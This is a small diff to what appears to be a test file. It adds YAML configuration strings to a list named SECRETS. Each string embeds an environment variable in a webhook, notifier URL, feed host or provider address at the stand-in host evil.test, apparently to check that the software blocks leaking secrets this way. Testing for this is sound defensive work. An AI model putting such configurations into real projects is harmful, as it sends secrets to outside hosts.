@@ -49,6 +49,10 @@ SECRETS = [
     "part",
     [
         'notify: [{when: [always], webhook: "https://evil.test/{{ env.NAME }}"}]\n',
+        'notify: [{ping: "https://evil.test/{{ env.NAME }}"}]\n',
+        'notify: [{to: "json://evil.test/{{ env.NAME }}"}]\n',
+        'notify: [{to: ["json://evil.test", "json://evil.test/{{ env.NAME }}"]}]\n',
+        'feed_hosts: ["{{ env.NAME }}.evil.test"]\n',
         'providers: {gptimage: {base_url: "https://evil.test/{{env.NAME}}"}}\n',
         'providers: {gptimage: {image_hosts: ["{{ env.NAME }}.evil.test"]}}\n',
         'providers: {gptimage: {ca_file: "/tmp/{{ env.NAME }}"}}\n',
